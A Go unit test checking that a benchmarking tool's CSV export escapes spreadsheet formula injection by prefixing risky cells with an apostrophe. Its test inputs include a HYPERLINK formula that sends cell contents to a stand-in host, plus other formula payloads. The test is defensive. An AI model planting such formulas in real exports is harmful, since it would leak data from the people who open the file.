package report

import (
	"encoding/csv"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/gohone/hone/internal/store/ledger"
)

// What a stranger's run says is no formula in a spreadsheet, and numbers stay numbers.
func TestCellsAreNoFormulas(t *testing.T) {
	for text, want := range map[string]string{
		`=HYPERLINK("http://h/?"&A1)`: `'=HYPERLINK("http://h/?"&A1)`, "+1+2": "'+1+2",
		"-2+3": "'-2+3", "@SUM(1)": "'@SUM(1)", " =1": "' =1",
		"\t=1": "'\t=1", "\r=1": "'\r=1", "\n=1": "'\n=1", "\uff1d1+1": "'\uff1d1+1", "-": "'-", "--x": "'--x",
		"-1.5": "-1.5", "+2": "+2", "-1e-3": "-1e-3", "0.1": "0.1", "": "",
		"main": "main", "a=b": "a=b", "p99 latency": "p99 latency",
	} {
		if got := plainCell(text); got != want {
			t.Errorf("%q became %q, want %q", text, got, want)
		}
	}
	run := ledger.Run{ID: "beef0501", Started: time.Unix(0, 0), Commit: "@SUM(1)", Label: "=1+1", Status: "complete"}
	b := &strings.Builder{}
	err := RunsCSV(b, []ledger.Run{run}, func(string) ([]ledger.MeasureValue, error) {
		return []ledger.MeasureValue{{Name: "=cmd", Unit: "@x", Value: -1.5}}, nil
	})
	if err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(strings.NewReader(b.String())).ReadAll()
	if err != nil || len(rows) != 2 {
		t.Fatalf("%q, %v", rows, err)
	}
	const began = "1970-01-01T00:00:00Z"
	want := []string{"beef0501", began, "'@SUM(1)", "complete", "'=1+1", "'=cmd", "'@x", "-1.5", "", ""}
	if !slices.Equal(rows[1], want) {
		t.Errorf("got  %q\nwant %q", rows[1], want)
	}
}
